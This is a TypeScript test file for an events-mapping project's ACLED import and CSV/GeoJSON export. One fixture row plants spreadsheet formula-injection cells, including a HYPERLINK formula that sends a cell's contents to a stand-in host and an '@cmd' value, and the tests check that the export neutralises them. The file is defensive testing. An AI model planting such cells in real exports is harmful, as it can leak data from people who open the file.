import { check } from '@placemarkio/check-geojson';
import type { FeatureCollection } from 'geojson';
import { parse as parseCsv } from 'csv-parse/sync';
import { yearsSpan } from '../../../src/corpus/time/time-bins.ts';
import { describe, expect, it } from 'vitest';
import { readDatasetFile } from '../../../src/formats/read-dataset-file.ts';
import { buildIndexes } from '../../../src/corpus/indexes.ts';
import { withDatasets } from '../../../src/corpus/merge-datasets.ts';
import { resolveDataset } from '../../../src/datasets/resolve-dataset.ts';
import { eventFeature, EVENT_KINDS, type EventKind } from '../../../src/records/schema.ts';
import { DEFAULT_SELECTION, matchesSelection, type Selection } from '../../../src/corpus/selection.ts';
import { claimsCsv, eventsCsv } from '../../../src/export/events-csv.ts';
import { eventsGeoJson } from '../../../src/export/events-geojson.ts';
import { exportFileName } from '../../../src/export/export-file-name.ts';
import { exportSelection } from '../../../src/export/export-selection.ts';
import { ACLED_HEADER, acledRow, csv, utf8 } from '../../fixtures/dataset-files.ts';
import { builtData } from './built-data.ts';

/** Cells a spreadsheet would run as formulas, planted in an imported dataset's row. */
const PLANTED = {
  notes: '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
  location: '+SUM(1,2)',
  source: '@cmd',
  admin1: '-2+3',
};

function hostileDataset(data: ReturnType<typeof builtData>) {
  const file = csv(ACLED_HEADER, [
    acledRow({
      event_id_cnty: 'KAZ1', event_date: '2016-05-21', time_precision: '1', event_type: 'Protests',
      sub_event_type: 'Peaceful protest', country: 'Kazakhstan', latitude: '47.5', longitude: '62.0',
      geo_precision: '1', fatalities: '0', ...PLANTED,
    }),
    acledRow({
      event_id_cnty: 'KAZ2', event_date: '2016-06-05', time_precision: '1', event_type: 'Battles',
      sub_event_type: 'Armed clash', country: 'Kazakhstan', admin1: 'Aktobe', location: 'Aktobe',
      latitude: '50.2839', longitude: '57.1670', geo_precision: '1', source: 'Interfax', fatalities: '19',
      notes: 'Жанаозен: gunmen attacked gun shops in Aktobe.',
    }),
  ]); // prettier-ignore
  const read = readDatasetFile({ bytes: utf8(file) });
  if (read.kind !== 'read') throw new Error(`the fixture did not read: ${read.kind}`);
  const meta = {
    id: 'data-planted', name: 'planted', fileName: 'planted.csv', format: 'acled', encoding: 'utf-8',
    importedAt: '2026-12-01T10:00:00.000Z', published: false,
  } as const; // prettier-ignore
  return resolveDataset(read.result, meta, { places: data.places.features, events: data.events.features });
}

const data = builtData();
const dataset = hostileDataset(data);
// As the data store has it: the dataset's places merged into the articles'.
const indexes = buildIndexes(withDatasets(data, [dataset]), [dataset]);
const featureSets = [data.events.features, dataset.events];
const selection = (over: Partial<Selection>): Selection => ({ ...DEFAULT_SELECTION, ...over });
const in2016: Selection = selection({
  range: yearsSpan(2016, 2016),
  kinds: new Set<EventKind>(['attack', 'protest']),
});
const MADE = new Date('2026-12-01T09:30:00Z');

const rowsOf = (text: string): Array<Record<string, string>> => {
  expect(text.startsWith('\ufeff')).toBe(true);
  return parseCsv(text, { bom: true, columns: true }) as Array<Record<string, string>>;
};

describe('the exported events', () => {
  it('are the events the selection shows, one CSV row each, read back with their places and points', () => {
    const exported = exportSelection(featureSets, indexes, in2016);
    const expected = [...data.events.features, ...dataset.events]
      .filter((f) => matchesSelection(f.properties, in2016))
      .map((f) => f.properties.id);
    const rows = rowsOf(eventsCsv(exported));
    expect(rows.map((r) => r.event_id).sort()).toEqual([...expected].sort());
    expect(rows.every((r) => r.kind === 'attack' || r.kind === 'protest')).toBe(true);
    const aktobe = rows.find((r) => r.event_id === 'aktobe-2016-06-05-attacks')!;
    expect(aktobe.place).toBe('Aktobe');
    expect(aktobe.summary_by).toMatch(/our summary/);
    expect(aktobe.passage_ids!.split('; ').length).toBeGreaterThan(2);
    const feature = data.events.features.find((f) => f.properties.id === 'aktobe-2016-06-05-attacks')!;
    expect([Number(aktobe.longitude), Number(aktobe.latitude)]).toEqual(feature.geometry.coordinates);
  });

  it('keep every claim of the Aktobe attacks with the source’s passage, and the dataset’s figure, all contested', () => {
    const exported = exportSelection(featureSets, indexes, in2016);
    const rows = rowsOf(claimsCsv(exported)).filter((r) => r.event_id === 'aktobe-2016-06-05-attacks');
    const claims = data.claims.filter((c) => c.eventId === 'aktobe-2016-06-05-attacks');
    expect(rows.filter((r) => r.source_id !== 'data-planted')).toHaveLength(claims.length);
    for (const claim of claims) {
      const row = rows.find((r) => r.passage_id === claim.excerptId && r.measure === claim.measure)!;
      expect(row.value).toBe(claim.value === null ? '' : String(claim.value));
      expect(row.passage).toBe(data.excerpts.find((x) => x.id === claim.excerptId)!.text);
      expect(row.contested).toBe(String(claim.contested || row.measure === 'killed-total'));
    }
    const fromDataset = rows.find((r) => r.source_id === 'data-planted')!;
    expect(fromDataset).toMatchObject({ measure: 'killed-total', value: '19', contested: 'true' });
    expect(fromDataset.passage).toBe('Жанаозен: gunmen attacked gun shops in Aktobe.');
  });

  it('leave out the claims of a source switched off', () => {
    const hidden = selection({ ...in2016, hiddenSources: new Set(['al-jazeera-2016-06-09']) });
    const rows = rowsOf(claimsCsv(exportSelection(featureSets, indexes, hidden)));
    expect(rows.some((r) => r.source_id === 'al-jazeera-2016-06-09')).toBe(false);
    expect(rows.some((r) => r.source_id === 'armedpolitics-2016')).toBe(true);
  });

  it('neutralise every cell a spreadsheet could run as a formula, and keep the rest of its text', () => {
    const exported = exportSelection(featureSets, indexes, selection({ range: yearsSpan(2016, 2016) }));
    const text = eventsCsv(exported);
    const row = rowsOf(text).find((r) => r.dataset_event_id === 'KAZ1')!;
    expect(row.dataset_passage).toBe(`'${PLANTED.notes}`);
    expect(row.dataset_citations).toBe(`'${PLANTED.source}`);
    // The place the row formed is named from its location cell.
    expect(row.place).toBe(`'${PLANTED.location}`);
    const formulaCells = rowsOf(text)
      .flatMap((r) => Object.values(r))
      .filter((v) => /^[=+\-@\t\r]/.test(v));
    expect(formulaCells).toEqual([]);
    // Cyrillic survives the trip, and the file says it is UTF-8 by its first bytes.
    const bytes = new TextEncoder().encode(claimsCsv(exported));
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(rowsOf(claimsCsv(exported)).some((r) => r.passage!.startsWith('Жанаозен'))).toBe(true);
  });

  it('as GeoJSON pass a GeoJSON checker and the project’s own event schema, points in longitude, latitude', () => {
    const exported = exportSelection(featureSets, indexes, in2016);
    const text = eventsGeoJson(exported, MADE);
    const collection = check(text) as FeatureCollection;
    expect(collection.features).toHaveLength(exported.events.length);
    const json = JSON.parse(text);
    expect(json.crs).toBeUndefined();
    for (const feature of json.features) {
      const parsed = eventFeature.safeParse(feature);
      expect(parsed.success, JSON.stringify(parsed.error?.issues[0])).toBe(true);
      const [lon, lat] = feature.geometry.coordinates;
      expect(lon).toBeGreaterThanOrEqual(json.bbox[0]);
      expect(lat).toBeLessThanOrEqual(json.bbox[3]);
    }
    const aktobe = json.features.find((f: { id: string }) => f.id === 'aktobe-2016-06-05-attacks');
    expect(aktobe.properties.figures.length).toBeGreaterThan(3);
    expect(aktobe.properties.sources.map((s: { id: string }) => s.id)).toContain('armedpolitics-2016');
  });
});

describe('an export file’s name', () => {
  it('says the year, the layers and the day it was made', () => {
    expect(exportFileName(in2016, MADE, { extension: 'csv' })).toBe(
      'steppe-sources_2016_attack-protest_2026-12-01.csv',
    );
    expect(exportFileName(DEFAULT_SELECTION, MADE, { part: 'sources', extension: 'bib' })).toBe(
      'steppe-sources_all-years_all-layers_2026-12-01_sources.bib',
    );
    expect(
      exportFileName(selection({ kinds: new Set(EVENT_KINDS.filter((k) => k !== 'law')) }), MADE, {
        extension: 'geojson',
      }),
    ).toMatch(
      /^steppe-sources_all-years_attack-explosion-protest-dispersed-rally-security-response-prison-unrest_/,
    );
  });
});
